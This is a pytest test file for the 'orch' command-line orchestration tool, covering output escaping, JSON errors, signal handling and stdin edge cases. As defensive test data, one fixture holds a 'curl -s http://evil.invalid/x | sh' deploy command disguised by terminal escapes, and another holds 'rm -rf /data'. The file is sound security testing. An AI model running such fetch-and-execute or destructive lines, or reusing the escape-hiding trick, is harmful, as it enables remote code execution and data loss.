"""The `orch` command line, run as a real program."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from hangup import default_hangup

ORCH = [sys.executable, "-m", "orch_magics.cli"]


def orch(*args: str, input: bytes | None = None, cwd: Path | None = None, timeout: float = 60
         ) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([*ORCH, *args], input=input, capture_output=True, cwd=cwd,
                          timeout=timeout)


def test_demo_service_runs_with_piped_stdin() -> None:
    r = orch("--demo", "run", "local", "log-processor", input=b'{"level": "error"}\nfine\n')
    assert r.returncode == 0, r.stderr
    assert r.stdout.decode().splitlines() == [
        'ALERT  {"level": "error"}', "ok     fine", "processed 2 lines"]


def test_ls_and_check_list_what_is_defined() -> None:
    r = orch("--demo", "check")
    assert r.returncode == 0
    out = r.stdout.decode()
    assert out.startswith("ok: ") and "log-processor" in out and "sandbox" in out
    assert "local → env(cwd=/tmp, ORCH_DEMO_ENV)" in out


HIDING = """\
environments:
  local: {description: "Local. \\e]0;title\\a\\e[2J", layers: []}
  fl: {layers: [{type: local, config: {working_dir: "/tmp/\\e[2Jx"}}]}
services:
  deploy: {command: "curl -s http://evil.invalid/x | sh; exit 0 \\e[1G\\e[2Kecho deploying"}
"""


@pytest.mark.parametrize("words", [["run", "--dry-run", "local", "deploy"], ["ls"], ["check"],
                                   ["run", "--dry-run", "fl", "--", "true"]])
def test_a_configs_terminal_escapes_cannot_hide_what_it_would_run(tmp_path: Path,
                                                                  words: list[str]) -> None:
    """`\\e[1G\\e[2K` in a command cleared its line on a terminal, so a dry run showed only
    `echo deploying`; a description could set the window title or clear the screen (held-out
    tester cli3). They are shown escaped, as orch's other reports show them."""
    cfg = tmp_path / "orch.yaml"
    cfg.write_text(HIDING)
    r = orch("-c", str(cfg), *words)
    assert r.returncode == 0 and b"\x1b" not in r.stdout and b"\x07" not in r.stdout, r
    if "deploy" in words:
        assert "exit 0 \\x1b[1G\\x1b[2Kecho deploying" in r.stdout.decode(), r.stdout


@pytest.mark.parametrize("words", [["ls"], ["check"]])
def test_the_listing_is_one_aligned_line_a_name_with_commands_as_they_run(
        tmp_path: Path, words: list[str]) -> None:
    """basics12: a description of two lines broke the listing, a wide name pushed its row out
    of line, and `[sh, -c, "echo a b", "x y"]` read `sh -c echo a b x y`, another command."""
    cfg = tmp_path / "orch.yaml"
    cfg.write_text("environments:\n  a:\n    layers: []\n    description: |\n"
                   "      First line.\n      Second line.\n  \u74b0\u5883: []\n"
                   "  \"x\u200dy\": []\n"
                   "services:\n  argv: {command: [sh, -c, 'echo a b; echo $0', 'x y']}\n"
                   "  e: {command: [printf, \"%s\\n\", '', z]}\n"
                   "  bsl: {command: [printf, '%s\\n', \"x\\ty\"]}\n"
                   "  two: {command: \"true\\nrm -rf /data\\n\", description: '  '}\n"
                   "  tab: {command: \"printf %s 'a\\tb'\"}\n"  # a real tab (basics14)
                   "  lit: {command: 'printf %s ''a\\tb'''}\n")  # a backslash and a t
    r = orch("-c", str(cfg), *words)
    lines = r.stdout.decode().splitlines()[words == ["check"]:]  # after check's `ok: FILE`
    assert r.returncode == 0 and lines[:11] == [
        "environments:",
        "  a                    local  \u2014 First line.",
        "  \u74b0\u5883                 local",
        "  x\u200dy                   local",  # basics13: a joiner shown, and of no width
        "services:",
        "  argv                 sh -c 'echo a b; echo $0' 'x y'",
        # basics13: a real newline or tab read back by a shell as itself, not as `\\n`; a
        # command's other lines said; a blank description is none
        "  e                    printf $'%s\\n' '' z",
        "  bsl                  printf '%s\\n' $'x\\ty'",
        "  two                  true  (+1 more line)",
        # basics14: a shell string holding a real tab is not shown as one holding `\\t`
        "  tab                  /bin/sh -c $'printf %s \\'a\\tb\\''",
        "  lit                  printf %s 'a\\tb'"], lines


@pytest.mark.parametrize("words", [
    ["run", "\udcff", "--", "true"], ["run", "local", "--yes", "\udcff", "--", "true"],
    ["cp", "\udcff", "local:/tmp/"], ["audit", "--file", "\udcff"], ["\udcff"],
    ["run", "local", "--\udcff"],
    # basics14: -e's checks said them through repr (a value with no name is not said at all)
    ["run", "local", "-e", "A\udcff=1", "--", "true"]])
def test_a_word_that_is_not_utf8_is_said_as_its_bytes(tmp_path: Path, words: list[str]) -> None:
    """basics12: such a word (Python holds its byte as a surrogate) was said `\\udcff` in
    these messages, where the others say `\\xff`."""
    cfg = tmp_path / "orch.yaml"
    cfg.write_text("environments:\n  local: {layers: []}\n")
    r = orch("-c", str(cfg), *words, cwd=tmp_path)
    said = r.stderr.decode()
    assert r.returncode != 0 and "\\xff" in said and "udcff" not in said, said
    # basics13: a path really written with the six characters `\udcff` is said as written
    literal = orch("-c", str(cfg), "audit", "--file", "/nonexistent/x\\udcffy")
    assert "at /nonexistent/x\\udcffy" in literal.stderr.decode(), literal.stderr


@pytest.mark.parametrize("words", [
    ["run", "\udcff", "--json", "--", "true"], ["run", "local", "--json", "--yes", "\udcff",
                                               "--", "true"],
    ["run", "web", "--json", "--yes", "x\udcff", "--", "true"],
    ["run", "web", "--json", "--max-fail", "1\udcff", "--", "true"]])
def test_json_says_such_a_word_as_its_bytes_too(tmp_path: Path, words: list[str]) -> None:
    """basics13: `--json`'s error held a lone surrogate (`\\udcff` in the JSON) where stderr
    said `\\xff`: a script reads the same words as the person."""
    cfg = tmp_path / "orch.yaml"
    cfg.write_text("environments:\n  local: {layers: []}\n"
                   "  web: {layers: [{type: ssh, config: {host: [a, b]}}]}\n")
    r = orch("-c", str(cfg), *words, cwd=tmp_path)
    said = json.loads(r.stdout)
    error = said["error"]
    assert r.returncode != 0 and "\\xff" in error and "\udcff" not in error, error
    assert "\udcff" not in said["environment"], said  # basics14: a lone surrogate in JSON


def test_a_command_shown_is_read_back_by_bash_as_the_same_words() -> None:
    """basics13, review24, basics14: a tab inside plain quotes read back as backslash-t;
    `\\xa0` in `$'…'` is one byte for bash, not the no-break space; `\\E` and `\\a` were
    forms secret masking does not know. What is shown, pasted into bash, is the same argv."""
    from orch_magics.secrets.masking import SecretRegistry
    from orch_magics.text import shell_line

    words = ["plain", "a b", "it's", "x\ty", "l1\nl2", "cr\r", "bel\x07", "esc\x1b[31m",
             "nb\xa0sp", "soft\xadh", "\u202e", "é", "caf\udce9", "", "\\n", "$HOME"]
    shown = shell_line(words)
    said = subprocess.run(["bash", "-c", f'for a in {shown}; do printf "%s\\0" "$a"; done'],
                          capture_output=True, env={"LC_ALL": "C.UTF-8"}, check=True).stdout
    assert said.split(b"\0")[:-1] == [os.fsencode(w) for w in words], (shown, said)
    registry = SecretRegistry()
    registry.add("bel\x07esc\x1b-tab\tsecret")
    assert "secret" not in registry.mask_text(shell_line(["x", "bel\x07esc\x1b-tab\tsecret"]))


def test_version() -> None:
    from orch_magics import __version__

    r = orch("--version")
    assert (r.returncode, r.stdout.decode()) == (0, f"orch {__version__}\n")


def test_json_carries_output_that_is_not_utf8_whole() -> None:
    """JSON holds text: bytes that are not UTF-8 became U+FFFD and were lost."""
    import base64
    import json

    r = orch("--demo", "run", "local", "--json", "--", "sh", "-c",
             r"printf 'a\377b\000c'; printf '\376' >&2")
    data = json.loads(r.stdout)
    assert data["stdout"] == "a\ufffdb\x00c"
    assert base64.b64decode(data["stdout_base64"]) == b"a\xffb\x00c"
    assert base64.b64decode(data["stderr_base64"]) == b"\xfe"
    text = json.loads(orch("--demo", "run", "local", "--json", "--", "echo", "é").stdout)
    assert text["stdout"] == "é\n" and "stdout_base64" not in text


def _max_rss(args: list[str], stdin: Path, stdout: Path) -> int:
    """Run orch; its peak resident memory in KiB (of this one child, not of every one so far)."""
    with stdin.open("rb") as given, stdout.open("wb") as out:
        proc = subprocess.Popen([*ORCH, *args], stdin=given, stdout=out)
        _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    assert proc.returncode == 0
    return usage.ru_maxrss


def test_json_of_large_binary_output_keeps_memory_bounded(tmp_path: Path) -> None:
    """`--json` built the whole document in memory: 20 MB of binary output took ~17 times that
    (its text, the text's escapes, the base64, the indented string; finding frontends #1). It
    is written as the output is read: the same JSON, in about the memory of a plain run."""
    import base64
    import json

    data = os.urandom(20_000_000)  # past the 16 MiB a result keeps in memory: spilled to disk
    given = tmp_path / "in.bin"
    given.write_bytes(data)
    plain = _max_rss(["--demo", "run", "local", "--", "cat"], given, tmp_path / "plain")
    as_json = _max_rss(["--demo", "run", "--json", "local", "--", "cat"], given,
                       tmp_path / "out.json")
    assert as_json - plain < 48 * 1024, (plain, as_json)  # KiB; before, +300 MiB
    doc = json.loads((tmp_path / "out.json").read_bytes())
    assert base64.b64decode(doc.pop("stdout_base64")) == data
    assert doc.pop("stdout") == data.decode("utf-8", "replace")
    assert list(doc)[-3:] == ["stderr_dropped", "log_file", "steps"]


@pytest.mark.parametrize("args, message", [
    (["run", "nosuch"], "orch: config error: unknown environment 'nosuch' in "),
    (["run", "health-check"], "orch: config error: 'health-check' is a service: name the "
                              "environment first (environments: local, sandbox)"),
    (["run", "local"], "orch: config error: nothing to run: give a SERVICE, or -- CMD ARGS…"),
])
def test_run_says_first_what_is_wrong_with_the_environment(args: list[str], message: str) -> None:
    """`orch run nosuch` said 'nothing to run' and `orch run health-check` (the environment
    forgotten) 'unknown environment' without saying that it is a service."""
    r = orch("--demo", *args)
    assert r.returncode == 2 and r.stderr.decode().startswith(message), r.stderr


def test_exit_status_is_the_process_status() -> None:
    assert orch("--demo", "run", "local", "--", "sh", "-c", "exit 42").returncode == 42
    r = orch("--demo", "run", "local", "--", "sh", "-c", "kill -TERM $$")
    assert r.returncode == 128 + signal.SIGTERM


def test_binary_output_survives_a_pipe() -> None:
    data = os.urandom(5 * 1024 * 1024)
    r = orch("--demo", "run", "local", "--", "cat", input=data)
    assert hashlib.sha256(r.stdout).digest() == hashlib.sha256(data).digest()


def test_stdin_is_streamed_not_read_to_the_end_first() -> None:
    proc = subprocess.Popen([*ORCH, "--demo", "run", "local", "upper"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE)
    assert proc.stdin and proc.stdout
    proc.stdin.write(b"first line\n")
    proc.stdin.flush()
    assert proc.stdout.readline() == b"FIRST LINE\n"  # answered while stdin is still open
    proc.stdin.write(b"second\n")
    proc.stdin.close()
    assert proc.stdout.read() == b"SECOND\nbye\n"
    assert proc.wait(10) == 0


def test_a_stdin_left_non_blocking_is_waited_on_not_taken_for_its_end() -> None:
    """A program sharing orch's stdin (node, a parent's pipe) may leave it O_NONBLOCK: an
    empty pipe read EAGAIN and orch ended the input there, silently, exit 0 (tester cli3)."""
    proc = subprocess.Popen([*ORCH, "--demo", "run", "local", "--", "wc", "-c"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=lambda: os.set_blocking(0, False))
    assert proc.stdin
    for part in (b"abc", b"defg", b"h" * 100_000):
        time.sleep(0.5)  # long enough for the reader to find the pipe empty
        proc.stdin.write(part)
        proc.stdin.flush()
    proc.stdin.close()
    assert proc.stdout and proc.stderr
    out, err = proc.stdout.read(), proc.stderr.read()
    assert (proc.wait(30), out, err) == (0, b"100007\n", b"")


def test_a_stdin_open_for_writing_only_is_refused_not_read_as_empty(tmp_path: Path) -> None:
    """chains26: `orch run … -- wc -c 0>file` said 0 and exit 0 (the read's EBADF was taken
    for the end of the input): an importer would commit an empty input. It is refused in one
    line before anything runs, as `>&-` is for the output."""
    marker = tmp_path / "ran"
    line = (f"{' '.join(ORCH)} --demo run local -- sh -c 'touch {marker}; wc -c' "
            f"0>{tmp_path / 'w'}")
    done = subprocess.run(["bash", "-c", line], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (1, ""), done.stderr
    assert done.stderr == "orch: cannot read the input: standard input is open for writing only\n"
    assert not marker.exists()



def test_nohup_s_write_only_dev_null_is_an_empty_input(tmp_path: Path) -> None:
    """review42: GNU nohup, run from a terminal, puts /dev/null write-only on stdin so reads
    fail ("ignoring input"); that was refused as `0>file` is, so every `nohup orch run` from
    a terminal failed. /dev/null is an empty input, however it was opened."""
    line = f"{' '.join(ORCH)} --demo run local -- sh -c 'wc -c; echo done' 0>/dev/null"
    done = subprocess.run(["bash", "-c", line], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout.split(), done.stderr) == (0, ["0", "done"], "")


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP],
                         ids=["ctrl-c", "term", "closed-terminal"])
def test_ctrl_c_term_or_hangup_stops_the_whole_chain(tmp_path: Path, sig: signal.Signals) -> None:
    """Each stops the run with the ladder, and orch exits with 128 + the signal it got, as a
    shell reports a job that signal ended (before, 130 for all three: the status of the shell
    the ladder's INT ended); before that, a closed terminal (HUP) ended orch at once and left
    the command running."""
    pidfile = tmp_path / "pid"
    proc = subprocess.Popen([*ORCH, "--demo", "run", "local", "--", "sh", "-c",
                             f"sleep 300 & echo $! > {pidfile}; echo running; wait"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=default_hangup)
    assert proc.stdout and proc.stderr
    assert proc.stdout.readline() == b"running\n"
    child = int(pidfile.read_text())
    proc.send_signal(sig)
    assert proc.wait(15) == 128 + sig
    assert b"Traceback" not in proc.stderr.read()
    for _ in range(100):
        try:
            os.kill(child, 0)
        except ProcessLookupError:
            break
        time.sleep(0.05)
    else:
        pytest.fail(f"the sleep child outlived {sig.name}")


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP],
                         ids=["ctrl-c", "term", "closed-terminal"])
def test_a_stopped_run_exits_with_the_signal_orch_got(sig: signal.Signals) -> None:
    """Whatever the command makes of the ladder's INT (here: exit 0), a supervisor's TERM gives
    143 and a Ctrl-C 130, never the status of a run that looks finished (finding frontends
    #5: TERM and HUP gave the command's 130, or 0)."""
    proc = subprocess.Popen([*ORCH, "--demo", "run", "local", "--", "sh", "-c",
                             "trap 'echo got-int; exit 0' INT; echo running; "
                             "while :; do sleep 0.1; done"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=default_hangup)
    assert proc.stdout and proc.stdout.readline() == b"running\n"
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=15)
    assert (proc.returncode, out, err) == (128 + sig, b"got-int\n", b"")


#: `orch`, with a Ctrl-C that lands while the command line's module is being imported.
CTRL_C_WHILE_LOADING = """
import os, signal, sys

class CtrlC:
    def find_spec(self, name, path=None, target=None):
        if name == "orch_magics.cli.app":
            sys.meta_path.remove(self)
            os.kill(os.getpid(), signal.SIGINT)
        return None

sys.meta_path.insert(0, CtrlC())
import orch_magics.cli
sys.exit(orch_magics.cli.main())
"""


@pytest.mark.parametrize("ignored", [False, True], ids=["foreground", "script-background"])
def test_ctrl_c_while_the_command_line_loads_is_one_line(ignored: bool) -> None:
    """A Ctrl-C while the command line loads (~0.1 s of imports; in them, always, here) used to
    end in Python's KeyboardInterrupt traceback from the middle of an import. Started as a
    script's `&` job, SIGINT comes ignored; orch stops on it all the same, as it does once the
    run has begun (before, the Ctrl-C was lost and the command ran on)."""
    as_given = signal.SIG_IGN if ignored else signal.SIG_DFL
    proc = subprocess.Popen([sys.executable, "-c", CTRL_C_WHILE_LOADING, "--demo", "run",
                             "local", "--", "sh", "-c", "sleep 5; echo ran"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, as_given))
    out, err = proc.communicate(timeout=30)
    # 130, or death by SIGINT (what a shell also shows as 130): CPython keeps a KeyboardInterrupt
    # raised inside a dataclass's generated code as "unhandled" even once it was handled
    assert proc.returncode in (128 + signal.SIGINT, -signal.SIGINT)
    assert (out, err) == (b"", b"orch: interrupted\n")


def test_under_nohup_a_hangup_is_ignored(tmp_path: Path) -> None:
    proc = subprocess.Popen([*ORCH, "--demo", "run", "local", "--", "sh", "-c",
                             "echo running; sleep 1; echo still"], stdout=subprocess.PIPE,
                            preexec_fn=lambda: signal.signal(signal.SIGHUP, signal.SIG_IGN))
    assert proc.stdout and proc.stdout.readline() == b"running\n"
    proc.send_signal(signal.SIGHUP)
    assert proc.wait(15) == 0 and proc.stdout.read() == b"still\n"


def test_a_closed_reader_stops_the_run(tmp_path: Path) -> None:
    pidfile = tmp_path / "pid"
    shell = (f"{' '.join(ORCH)} --demo run local -- sh -c 'echo $$ > {pidfile}; "
             "while :; do echo line; sleep 0.01; done' | head -1; echo \"${PIPESTATUS[0]}\"")
    r = subprocess.run(["bash", "-c", shell], capture_output=True, timeout=30, check=False)
    assert r.stdout.decode().splitlines() == ["line", str(128 + signal.SIGPIPE)]
    producer = int(pidfile.read_text())
    with pytest.raises(ProcessLookupError):
        os.kill(producer, 0)


class SilentServer:
    """A TCP port that accepts connections and never says a word (a hung SSH server);
    `accepted` is set once a client has connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.accepted = threading.Event()
        self.conns: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):  # closed at the end of the test
            while True:
                self.conns.append(self.sock.accept()[0])
                self.accepted.set()


@pytest.fixture
def silent_server() -> Iterator[SilentServer]:
    server = SilentServer()
    yield server
    server.sock.close()
    for conn in server.conns:
        conn.close()


def test_ctrl_c_and_timeout_while_still_connecting(silent_server: SilentServer,
                                                   tmp_path: Path) -> None:
    cfg = tmp_path / "orch.yaml"
    cfg.write_text("environments:\n  hung:\n    layers:\n      - {type: ssh, config: {host: "
                   f"127.0.0.1, port: {silent_server.port}, connect_timeout: 60, "
                   "insecure_accept_host_key: true}}\n")
    proc = subprocess.Popen([*ORCH, "-c", str(cfg), "run", "hung", "--", "true"],
                            stderr=subprocess.PIPE)
    assert silent_server.accepted.wait(30)  # orch is connecting: the run has begun
    proc.send_signal(signal.SIGTERM)  # a supervisor's stop, before the process started
    assert proc.wait(10) == 128 + signal.SIGTERM
    assert proc.stderr and b"orch: hung/true was interrupted after" in proc.stderr.read()
    r = orch("-c", str(cfg), "run", "--timeout", "1", "hung", "--", "true")
    assert r.returncode == 124


def test_timeout_option() -> None:
    r = orch("--demo", "run", "--timeout", "0.5", "local", "--", "sh", "-c", "echo a; sleep 30")
    assert r.returncode == 124 and r.stdout == b"a\n"
    assert b"timed out" in r.stderr


def test_config_errors_are_one_clear_message_without_traceback(tmp_path: Path) -> None:
    bad = tmp_path / "orch.yaml"
    bad.write_text("services:\n  web:\n    comand: run\n")
    r = orch("-c", str(bad), "check")
    err = r.stderr.decode()
    assert r.returncode == 2
    assert f"{bad}:3:5: unknown key 'comand' in services.web (did you mean 'command'?)" in err
    assert "Traceback" not in err
    r = orch("--demo", "run", "locale", "upper")
    assert r.returncode == 2 and "did you mean 'local'?" in r.stderr.decode()
    assert "Traceback" not in r.stderr.decode()


@pytest.mark.parametrize(("args", "hint"), [
    (("ls", "--json"), "(--json is an option of orch run and orch audit)"),
    (("check", "--dry-run"), "(--dry-run is an option of orch run)"),
    (("run", "local", "upper", "--jsno"), "(did you mean '--json'?)"),
    (("audit", "--failedd"), "(did you mean '--failed'?)"),
    (("rn", "local"), "(did you mean 'run'?)"),
    (("audit", "verfy"), "(did you mean 'verify'?)"),
    # a command's option before the command: was "invalid choice: '3'" or a wrong "--" hint
    (("--timeout", "3", "run", "local", "upper"), "unknown option --timeout before run "
                                                  "(--timeout is an option of orch run: write "
                                                  "it after run)"),
    (("--json", "run", "local", "upper"), "(--json is an option of orch run: write it after"),
    (("--failed", "audit"), "(--failed is an option of orch audit: write it after audit)"),
    (("forward", "local", "99999"), "argument port: a TCP port (1-65535), not '99999'"),
    (("forward", "local", "80", "--local", "x"), "argument --local: a TCP port (1-65535, 0 for "
                                                 "any free one), not 'x'"),
])
def test_a_misplaced_or_mistyped_option_gets_a_hint(args: tuple[str, ...], hint: str) -> None:
    r = orch("--demo", *args)
    err = r.stderr.decode()
    assert r.returncode == 2 and hint in err and "Traceback" not in err


def test_dry_run_of_a_fleet_shows_the_targets_the_limit_keeps(tmp_path: Path) -> None:
    cfg = tmp_path / "orch.yaml"
    cfg.write_text("environments:\n  web: {layers: [{type: ssh, config: {host: 'w-[1:3]'}}]}\n")
    r = orch("-c", str(cfg), "run", "web", "--dry-run", "--limit", "!w-2", "--", "true")
    assert r.returncode == 0 and "targets:     2 targets: w-1, w-3" in r.stdout.decode()
    r = orch("-c", str(cfg), "run", "web", "--dry-run", "--limit", "x-*", "--", "true")
    assert r.returncode == 2 and "'x-*' matches no target" in r.stderr.decode()


def test_found_in_working_directory_and_dry_run(tmp_path: Path) -> None:
    (tmp_path / "orch.yaml").write_text(
        "environments: {local: {layers: []}}\n"
        "services: {hi: {command: 'echo $GREETING', environment: {GREETING: hello}}}\n")
    r = orch("run", "local", "hi", cwd=tmp_path)
    assert r.stdout == b"hello\n"
    r = orch("run", "--dry-run", "local", "hi", cwd=tmp_path)
    assert b"command:     echo $GREETING" in r.stdout and b"env:         GREETING=hello" in r.stdout


def test_json_output() -> None:
    import json

    r = orch("--demo", "run", "--json", "sandbox", "health-check")
    data = json.loads(r.stdout)
    assert data["ok"] and json.loads(data["stdout"])["env"] == "sandbox"


def test_a_capture_service_writes_its_stdout_to_orchs_stdout(tmp_path: Path) -> None:
    """`stdout_mode: capture` is "kept in the result only": orch run has no result object,
    its stdout is where the result goes (`> file`, `| jq`), so it is written there, as
    docs/services.md says (finding frontends #8: code and docs disagreed)."""
    cfg = tmp_path / "orch.yaml"
    cfg.write_text("environments:\n  local: {layers: []}\nservices:\n"
                   "  cap: {command: echo captured; echo note >&2, stdout_mode: capture}\n")
    r = orch("-c", str(cfg), "run", "local", "cap")
    assert (r.returncode, r.stdout, r.stderr) == (0, b"captured\n", b"note\n")
    text = (Path(__file__).parent.parent / "docs" / "services.md").read_text()
    assert "`orch run` is the exception" in text


def test_pre_and_post_steps_are_shown_on_stderr() -> None:
    """Shown, and off stdout, where the command's result goes (`> out.json`, `| jq`)."""
    r = orch("--demo", "run", "local", "disk-report")
    steps = r.stderr.decode().splitlines()
    assert steps[0].startswith("checking ") and steps[-1] == "report done" and r.returncode == 0
    assert r.stdout and "checking " not in r.stdout.decode() and b"report done" not in r.stdout


def test_a_failed_post_command_says_that_its_status_is_the_exit_status(tmp_path: Path) -> None:
    cfg = tmp_path / "orch.yaml"
    cfg.write_text("environments: {local: {layers: []}}\nservices:\n  pf:\n"
                   "    command: 'echo main'\n"
                   "    post_commands: [{command: 'echo post; exit 5', when: always}]\n")
    r = orch("-c", str(cfg), "run", "local", "pf")
    assert (r.returncode, r.stdout) == (5, b"main\n")
    assert r.stderr == b"post\norch: local/pf: post command 'echo post; exit 5' failed (exit 5)\n"


DEFECT = """
import sys
import orch_magics.cli.app as cli
def broken(args, command):
    raise RuntimeError("an injected defect")
cli._dispatch = broken  # a fault no real input produces (any left would be a bug of ours)
sys.exit(cli.main(["--demo", "check"]))
"""


def test_a_defect_of_ours_is_one_line_unless_orch_debug_asks() -> None:
    quiet = subprocess.run([sys.executable, "-c", DEFECT], capture_output=True, text=True,
                           timeout=60)
    assert quiet.returncode == 70
    assert quiet.stderr == ("orch: internal error: RuntimeError: an injected defect (a bug in "
                            "orch_magics: ORCH_DEBUG=1 shows where; please report it)\n")
    loud = subprocess.run([sys.executable, "-c", DEFECT], capture_output=True, text=True,
                          timeout=60, env={**os.environ, "ORCH_DEBUG": "1"})
    assert loud.returncode == 1 and "Traceback" in loud.stderr and "injected" in loud.stderr


@pytest.mark.parametrize("closed", [">&-", "2>&-", "<&-"])
def test_a_closed_standard_stream_is_never_reused(tmp_path: Path, closed: str) -> None:
    """`orch run … >&-`: output fails as on a closed descriptor, in one line and exit 1, as a
    shell's `echo hi >&-` (inputs #9: it vanished, exit 0); a closed stderr or stdin is
    /dev/null. Before, the next descriptor opened took number 1 (the event loop's epoll), and
    writing the output to it failed."""
    audit = tmp_path / "audit.jsonl"
    cfg = tmp_path / "orch.yaml"
    cfg.write_text(f"audit: {{path: '{audit}'}}\nenvironments: {{local: {{layers: []}}}}\n")
    line = (f"{' '.join(ORCH)} -c {cfg} run local -- sh -c 'echo out-marker; "
            f"echo err-marker >&2' {closed}")
    done = subprocess.run(["bash", "-c", line], capture_output=True, text=True, timeout=60)
    if closed == ">&-":
        assert (done.returncode, done.stdout) == (1, ""), done.stderr
        assert done.stderr.endswith("orch: cannot write the output: Bad file descriptor\n")
    else:
        assert done.returncode == 0, done.stderr
        assert done.stdout == "out-marker\n"
        assert done.stderr == ("" if closed == "2>&-" else "err-marker\n")
    from orch_magics.audit import verify

    assert verify(str(audit)) == (2, None)  # nothing but its two records went into it


@pytest.mark.ssh
@pytest.mark.parametrize("env", ["local", "loop", "two"])
def test_a_command_that_stops_reading_stdin_early_leaves_a_quiet_terminal(  # type: ignore[no-untyped-def]
        ssh_lab, env: str, tmp_path: Path) -> None:
    # `yes | orch run … -- head -n1`: the run ends while our stdin reader still has input to
    # hand over; nothing of that may reach the user's terminal as Python noise at exit
    cfg = tmp_path / "orch.yaml"
    cfg.write_text(ssh_lab.config_yaml(extra_envs={"local": []}))
    for _ in range(3):
        yes = subprocess.Popen(["yes", "hello"], stdout=subprocess.PIPE)
        try:
            r = subprocess.run([*ORCH, "-c", str(cfg), "run", env, "--", "head", "-n1"],
                               stdin=yes.stdout, capture_output=True, timeout=60)
        finally:
            yes.kill()
            yes.wait()
        assert (r.returncode, r.stdout, r.stderr) == (0, b"hello\n", b"")


PARTIAL = """\
environments: {local: {layers: []}}
services:
  partial: {command: 'printf partial; sleep 30'}
  short-secret: {command: 'echo "[$PW]"', environment: {PW: '{{secret:pw}}'}}
"""


def test_a_message_after_an_unterminated_line_starts_a_line_of_its_own(tmp_path: Path) -> None:
    """Before: `partialorch: local/partial timed out …` on a terminal."""
    cfg = tmp_path / "orch.yaml"
    cfg.write_text(PARTIAL)
    args = [*ORCH, "-c", str(cfg), "run", "local", "partial", "--timeout", "3"]
    together = subprocess.run(args, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
    assert together.stdout.startswith(b"partial\norch: local/partial timed out after ")
    apart = subprocess.run(args, capture_output=True, timeout=60)
    assert apart.stdout == b"partial"  # a separate stdout is never changed
    assert apart.stderr.startswith(b"orch: local/partial timed out after ")
    assert b"(limit 3s)" in apart.stderr  # the time it took is whatever the machine gave


def test_a_short_secret_warning_is_one_orch_line(tmp_path: Path) -> None:
    cfg = tmp_path / "orch.yaml"
    cfg.write_text(PARTIAL)
    r = subprocess.run([*ORCH, "-c", str(cfg), "run", "local", "short-secret"],
                       capture_output=True, timeout=60,
                       env={**os.environ, "ORCH_SECRET_PW": "ab"})
    assert r.returncode == 0 and r.stdout == b"[ab]\n"
    assert r.stderr == (b"orch: warning: a secret value shorter than 4 characters is not "
                        b"masked in output\n")


@pytest.mark.parametrize("words", [["schema"], ["check"], ["ls"], ["audit"]])
def test_a_command_whose_stdout_is_closed_says_so(tmp_path: Path, words: list[str]) -> None:
    """inputs #9: `orch schema >&-` was "internal error: AttributeError", `orch check >&-`
    exited 0 having written nothing."""
    cfg = tmp_path / "orch.yaml"
    cfg.write_text(f"audit: {{path: '{tmp_path / 'audit.jsonl'}'}}\n"
                   "environments: {local: {layers: []}}\n")
    (tmp_path / "audit.jsonl").touch()  # a log with no record yet: `audit` has only its table
    line = f"{' '.join(ORCH)} -c {cfg} {' '.join(words)} >&-"
    done = subprocess.run(["bash", "-c", line], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stderr) == (
        1, "orch: cannot write the output: Bad file descriptor\n")


@pytest.mark.parametrize(("words", "said"), [
    (["local", "-e", "FOO", "--", "true"],
     "-e expects KEY=VALUE, got a value of 3 characters with no '='"),
    (["local", "--timeout", "nan", "--", "true"], "timeout must be a positive number"),
    (["local", "--limit", "x", "--", "true"], "environment 'local' has one target"),
    (["local"], "nothing to run: give a SERVICE"),
    (["web", "--parallel", "0", "--", "true"], "parallel (--parallel) must be a whole number"),
    (["web", "--max-fail", "200%", "--", "true"], "not '200%'"),
])
def test_json_says_every_mistake_orch_reads_on_the_line(tmp_path: Path, words: list[str],
                                                        said: str) -> None:
    """api5: `-e 1A=b` printed its JSON error on stdout, `-e FOO`, `--timeout nan`,
    `--parallel 0` or 'nothing to run' printed nothing: `orch run --json … | jq .error` got
    nothing for one typo and an answer for its neighbour."""
    (tmp_path / "p.yaml").write_text("environments:\n  local: []\n"
                                     "  web: [{type: ssh, config: {host: [a1, a2]}}]\n")
    done = orch("-c", str(tmp_path / "p.yaml"), "run", "--json", *words)
    assert done.returncode == 2, done
    reply = json.loads(done.stdout)
    assert said in reply["error"] and reply["ok"] is False, reply
    assert f"orch: config error: {reply['error']}" in done.stderr.decode()


def test_json_says_that_no_configuration_was_found(tmp_path: Path) -> None:
    done = orch("run", "--json", "local", "hi", cwd=tmp_path)
    assert done.returncode == 2 and json.loads(done.stdout)["error"].startswith(
        "no configuration found: give files with -c FILE")


def test_json_of_a_mistake_into_a_stdout_that_cannot_take_it_is_let_go(tmp_path: Path) -> None:
    """api6: with stdout closed, Python's own flush at exit failed again ('Exception ignored
    … Errno 9', exit 120); into /dev/full the JSON was lost without a word."""
    (tmp_path / "p.yaml").write_text("environments:\n  local: []\n")
    argv = [*ORCH, "-c", str(tmp_path / "p.yaml"), "run", "--json", "local", "-e", "FOO", "--",
            "true"]
    for stdout in (None, "/dev/full"):
        with open(stdout or os.devnull, "w") as sink:
            done = subprocess.run(argv, capture_output=False, stdout=sink if stdout else
